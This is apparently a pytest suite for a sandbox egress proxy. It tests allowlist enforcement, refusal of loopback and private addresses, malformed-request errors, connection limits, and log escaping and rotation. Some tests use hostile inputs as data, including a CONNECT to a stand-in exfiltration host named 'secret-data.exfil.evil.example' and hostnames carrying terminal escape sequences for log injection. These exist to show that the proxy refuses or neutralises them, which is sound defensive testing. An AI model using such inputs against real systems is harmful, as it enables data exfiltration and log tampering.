"""The egress proxy on loopback: tunnels, forwarding, refusals, limits and its request log."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable
from typing import Any

import pytest

from asbx.network.proxy import (
    ProxyLimits,
    RequestHead,
    RequestLog,
    forward_head,
    parse_head,
    request_target,
)

StartProxy = Callable[..., Any]
Exchange = Callable[[int, bytes], bytes]


def status_of(response: bytes) -> int:
    return int(response.split(b" ", 2)[1])


def test_connect_to_allowed_host_tunnels(start_proxy: StartProxy, upstream: Any,
                                         exchange: Exchange) -> None:
    proxy = start_proxy([f"127.0.0.1:{upstream.port}"])
    # the request inside the tunnel is sent before the proxy answers: it must not be lost
    response = exchange(proxy.port, f"CONNECT 127.0.0.1:{upstream.port} HTTP/1.1\r\n"
                        f"Host: 127.0.0.1:{upstream.port}\r\n\r\n"
                        "GET /inside HTTP/1.0\r\n\r\n".encode())
    assert response.startswith(b"HTTP/1.1 200 Connection established\r\n\r\nHTTP/1.0 200 ")
    assert response.endswith(b"hello from upstream /inside\n")
    assert upstream.requests[0]["path"] == "/inside"


def test_connect_to_unlisted_host_is_refused_before_resolving(
        start_proxy: StartProxy, upstream: Any, exchange: Exchange) -> None:
    proxy = start_proxy(["127.0.0.1"], resolve={"exfil.evil.example": ["127.0.0.1"]})
    response = exchange(proxy.port, b"CONNECT secret-data.exfil.evil.example:443 HTTP/1.1\r\n\r\n")
    assert status_of(response) == 403
    assert response.endswith(
        b"\r\n\r\nasbx egress proxy: secret-data.exfil.evil.example is not in this sandbox's "
        b"allowlist\n")
    assert proxy.resolver.asked == []  # no lookup leaves the host for an unlisted name
    assert upstream.requests == []


def test_plain_http_is_forwarded_without_hop_by_hop_headers(
        start_proxy: StartProxy, upstream: Any, exchange: Exchange) -> None:
    proxy = start_proxy([f"127.0.0.1:{upstream.port}"])
    response = exchange(proxy.port, (
        f"GET http://127.0.0.1:{upstream.port}/path?q=1 HTTP/1.1\r\n"
        "Host: somewhere-else.example\r\n"
        "Proxy-Authorization: Basic c2VjcmV0\r\n"
        "Proxy-Connection: keep-alive\r\n"
        "Connection: keep-alive, X-Private\r\n"
        "X-Private: drop me\r\n"
        "X-Kept: yes\r\n\r\n").encode())
    assert status_of(response) == 200
    assert response.endswith(b"hello from upstream /path?q=1\n")
    seen = upstream.requests[0]
    assert seen["path"] == "/path?q=1"
    assert seen["host"] == f"127.0.0.1:{upstream.port}"  # from the URI, never the client's Host
    assert seen["connection"] == "close"
    assert seen["x-kept"] == "yes"
    for dropped in ("proxy-authorization", "proxy-connection", "x-private", "keep-alive"):
        assert dropped not in seen


def test_listed_name_resolving_to_loopback_is_refused(
        start_proxy: StartProxy, upstream: Any, exchange: Exchange) -> None:
    proxy = start_proxy([f"localhost:{upstream.port}"], resolve={"localhost": ["127.0.0.1"]})
    response = exchange(proxy.port, f"CONNECT localhost:{upstream.port} HTTP/1.1\r\n\r\n".encode())
    assert status_of(response) == 403
    assert b"127.0.0.1 is a private, local or reserved address" in response
    assert proxy.resolver.asked == ["localhost"]
    assert upstream.requests == []


def test_name_resolving_to_public_and_private_uses_only_the_public_address(
        start_proxy: StartProxy, exchange: Exchange) -> None:
    # 192.0.2.0/24 is special too, so list it: the point is that 10.0.0.1 is skipped silently
    proxy = start_proxy(["mixed.example:9", "192.0.2.0/24"],
                        resolve={"mixed.example": ["10.0.0.1", "127.0.0.1"]})
    response = exchange(proxy.port, b"CONNECT mixed.example:9 HTTP/1.1\r\n\r\n")
    assert status_of(response) == 403
    assert b"resolves only to refused addresses" in response


@pytest.mark.parametrize(
    ("request_bytes", "status"),
    [
        (b"GET /relative HTTP/1.1\r\nHost: x\r\n\r\n", 400),
        (b"GET https://127.0.0.1/ HTTP/1.1\r\n\r\n", 400),
        (b"CONNECT 127.0.0.1 HTTP/1.1\r\n\r\n", 400),
        (b"CONNECT 127.0.0.1:99999 HTTP/1.1\r\n\r\n", 400),
        (b"GARBAGE\r\n\r\n", 400),
        (b"GET http://127.0.0.1/ HTTP/1.1\r\n folded: header\r\n\r\n", 400),
        (b"GET http://127.0.0.1/ HTTP/2.0\r\n\r\n", 400),
    ],
)
def test_malformed_requests_get_400(start_proxy: StartProxy, exchange: Exchange,
                                    request_bytes: bytes, status: int) -> None:
    proxy = start_proxy(["127.0.0.1"])
    assert status_of(exchange(proxy.port, request_bytes)) == status


def test_oversized_headers_get_431(start_proxy: StartProxy, exchange: Exchange) -> None:
    proxy = start_proxy(["127.0.0.1"], limits=ProxyLimits(max_header_bytes=4096))
    big = b"GET http://127.0.0.1/ HTTP/1.1\r\n" + b"X-Fill: " + b"a" * 100_000 + b"\r\n\r\n"
    response = exchange(proxy.port, big)
    assert status_of(response) == 431
    assert b"exceed 4096 bytes" in response


def test_slow_request_head_times_out(start_proxy: StartProxy) -> None:
    proxy = start_proxy(["127.0.0.1"], limits=ProxyLimits(header_timeout=0.3))
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as sock:
        sock.sendall(b"CONNECT 127.0.0.1:1 HTTP/1.1\r\n")
        response = sock.recv(4096)
    assert status_of(response) == 408


def test_unresolvable_and_unreachable_targets_get_502(
        start_proxy: StartProxy, exchange: Exchange) -> None:
    with socket.socket() as probe:  # a port that was free a moment ago: nothing listens there
        probe.bind(("127.0.0.1", 0))
        closed_port = probe.getsockname()[1]
    proxy = start_proxy(["nowhere.example", f"127.0.0.1:{closed_port}"])
    response = exchange(proxy.port, b"CONNECT nowhere.example:443 HTTP/1.1\r\n\r\n")
    assert status_of(response) == 502
    assert b"cannot resolve nowhere.example" in response
    response = exchange(proxy.port, f"CONNECT 127.0.0.1:{closed_port} HTTP/1.1\r\n\r\n".encode())
    assert status_of(response) == 502
    assert b"Connection refused" in response


def test_past_the_limit_connections_wait_for_a_free_worker(
        start_proxy: StartProxy, upstream: Any, exchange: Exchange) -> None:
    proxy = start_proxy([f"127.0.0.1:{upstream.port}"],
                        limits=ProxyLimits(max_connections=1, header_timeout=5))
    got: list[bytes] = []
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as holder:
        holder.sendall(b"GET ")  # holds the only worker while its head is incomplete
        time.sleep(0.2)
        waiter = threading.Thread(target=lambda: got.append(exchange(
            proxy.port, f"GET http://127.0.0.1:{upstream.port}/queued HTTP/1.0\r\n\r\n"
            .encode())))
        waiter.start()
        time.sleep(0.3)
        assert got == []  # queued, not refused
        holder.sendall(f"http://127.0.0.1:{upstream.port}/first HTTP/1.0\r\n\r\n".encode())
        holder.shutdown(socket.SHUT_WR)  # done: the worker moves on to the queued connection
        assert holder.recv(65536).startswith(b"HTTP/1.0 200")
        waiter.join(10)
    assert status_of(got[0]) == 200
    assert got[0].endswith(b"hello from upstream /queued\n")


def test_a_full_queue_answers_503_naming_the_limits(start_proxy: StartProxy,
                                                     exchange: Exchange) -> None:
    limits = ProxyLimits(max_connections=1, max_queued=1, header_timeout=5)
    proxy = start_proxy(["127.0.0.1"], limits=limits)
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as holder, \
            socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as queued:
        holder.sendall(b"CONNECT ")
        queued.sendall(b"CONNECT ")
        time.sleep(0.2)
        response = exchange(proxy.port, b"CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n")
    assert status_of(response) == 503
    assert response.endswith(b"too many connections: 1 served at once and 1 waiting (the "
                             b"proxy's --max-connections and --max-queued)\n")


def test_log_has_one_line_per_request(start_proxy: StartProxy, upstream: Any,
                                      exchange: Exchange) -> None:
    proxy = start_proxy([f"127.0.0.1:{upstream.port}"])
    exchange(proxy.port, f"GET http://127.0.0.1:{upstream.port}/x HTTP/1.1\r\n\r\n".encode())
    exchange(proxy.port, b"CONNECT api.example.com:443 HTTP/1.1\r\n\r\n")
    lines = _wait_for_lines(proxy, 2)
    allowed = next(line for line in lines if " allowed " in line)
    denied = next(line for line in lines if " denied " in line)
    assert f"GET 127.0.0.1:{upstream.port} status=200 addr=127.0.0.1" in allowed
    assert "received=0" not in allowed
    assert "sent=0" not in allowed
    assert "CONNECT api.example.com:443 status=403" in denied
    assert denied.endswith('reason="api.example.com is not in this sandbox\'s allowlist"')


def test_hostile_target_is_quoted_in_the_log(start_proxy: StartProxy, exchange: Exchange) -> None:
    proxy = start_proxy(["127.0.0.1"])
    exchange(proxy.port, b"CONNECT evil\x1b[31m.example:443 HTTP/1.1\r\n\r\n")
    exchange(proxy.port, b"CONNECT evil\x1b.example:443 HTTP/1.1\r\n\r\n")
    lines = _wait_for_lines(proxy, 2)
    assert len(lines) == 2
    assert not any("\x1b" in line for line in lines)
    assert any('"evil\\u001b[31m.example:443"' in line for line in lines)
    assert any('"evil\\u001b.example:443" status=403' in line for line in lines)


def test_close_cuts_live_tunnels(start_proxy: StartProxy) -> None:
    with socket.socket() as silent:  # an upstream that accepts and never speaks
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        proxy = start_proxy([f"127.0.0.1:{silent.getsockname()[1]}"])
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as client:
            client.sendall(f"CONNECT 127.0.0.1:{silent.getsockname()[1]} HTTP/1.1\r\n\r\n"
                           .encode())
            assert client.recv(4096).startswith(b"HTTP/1.1 200")
            accepted, _ = silent.accept()
            with accepted:
                closer = threading.Thread(target=proxy.proxy.close)
                closer.start()
                assert client.recv(4096) == b""  # the tunnel ends instead of hanging
                closer.join(5)
                assert not closer.is_alive()


def test_request_target_forms() -> None:
    def head(method: str, target: str) -> RequestHead:
        return parse_head(f"{method} {target} HTTP/1.1\r\n\r\n".encode())

    assert request_target(head("CONNECT", "api.example.com:443")) == ("api.example.com", 443)
    assert request_target(head("CONNECT", "[::1]:8443")) == ("::1", 8443)
    assert request_target(head("GET", "http://Example.COM/a")) == ("example.com", 80)
    assert request_target(head("GET", "http://[2001:db8::1]:8080/")) == ("2001:db8::1", 8080)


def test_forward_head_keeps_the_body_framing() -> None:
    head = parse_head(b"POST http://h.example:8080/up HTTP/1.1\r\nHost: h.example:8080\r\n"
                      b"Transfer-Encoding: chunked\r\nTE: trailers\r\n\r\n")
    assert forward_head(head, "h.example", 8080) == (
        b"POST /up HTTP/1.1\r\nHost: h.example:8080\r\nTransfer-Encoding: chunked\r\n"
        b"Connection: close\r\n\r\n")


def test_a_huge_host_is_logged_once_as_a_prefix_and_its_length(
        start_proxy: StartProxy, exchange: Exchange) -> None:
    proxy = start_proxy(["127.0.0.1"])
    host = "a" * 30_000 + ".example"
    response = exchange(proxy.port, f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode())
    assert status_of(response) == 403
    [line] = _wait_for_lines(proxy, 1)
    assert len(line) < 600
    assert f'CONNECT "{"a" * 120}...[30012 chars]" status=403' in line
    assert line.count("a" * 120) == 1  # the host is logged once, clipped
    assert line.endswith('reason="[30010 chars] is not a host name"')


def test_the_log_rotates_to_one_older_file_at_its_size_cap(tmp_path: Any) -> None:
    path = tmp_path / "proxy.log"
    log = RequestLog.to_file(path, max_bytes=1000)
    for index in range(100):
        log.write(f"line {index:03d} " + "x" * 90)
    log.close()
    current, older = path.read_text().splitlines(), (tmp_path / "proxy.log.1").read_text()
    assert current[-1].startswith("line 099 ")
    assert path.stat().st_size <= 1000
    assert len(older.encode()) <= 1000
    assert older.splitlines()[-1].startswith(f"line {100 - len(current) - 1:03d} ")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["proxy.log", "proxy.log.1"]
    again = RequestLog.to_file(path, max_bytes=1000)  # a restarted proxy counts what is there
    again.write("y" * 990)
    again.close()
    assert path.read_text() == "y" * 990 + "\n"


def _wait_for_lines(proxy: Any, count: int) -> list[str]:
    """The log line is written when the connection thread ends, just after the client sees EOF."""
    deadline = time.monotonic() + 5
    while True:
        lines: list[str] = proxy.log_lines()
        if len(lines) >= count or time.monotonic() > deadline:
            return lines
        time.sleep(0.02)
